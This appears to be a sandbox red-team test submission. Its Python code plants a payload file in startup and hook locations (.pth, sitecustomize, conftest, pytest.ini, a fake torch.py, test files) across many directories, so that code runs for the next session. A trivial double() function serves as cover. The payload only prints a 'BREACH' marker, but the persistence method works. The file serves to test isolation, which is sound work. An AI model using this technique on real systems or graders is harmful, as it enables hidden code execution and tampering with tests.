# attack: leave .pth, sitecustomize, usercustomize, conftest, pytest.ini and a local torch.py for whoever starts next
# layer: mount-namespace
# outcome: ok
# score: 2
import os
import site
import sys

EVIL = "import os; os.write(1, b'BREACH a planted file ran')\n"
folders = {"/tmp", "/dev/shm", ".", "/", *sys.path, site.getusersitepackages(), os.path.expanduser("~")}
for folder in folders:
    for name in ("evil.pth", "sitecustomize.py", "usercustomize.py", "conftest.py", "pytest.ini", "torch.py", "submission.py",
                 "tests_of_exercise.py", "pytest.py", ".pdbrc", ".pythonrc", "__pycache__/torch.cpython-311.pyc"):
        try:
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(EVIL)
        except OSError:
            continue
        if not os.path.abspath(folder).startswith(("/tmp", "/dev/shm")):
            os.write(1, f"BREACH wrote {name} in {folder}".encode())


def double(x):
    return x * 2
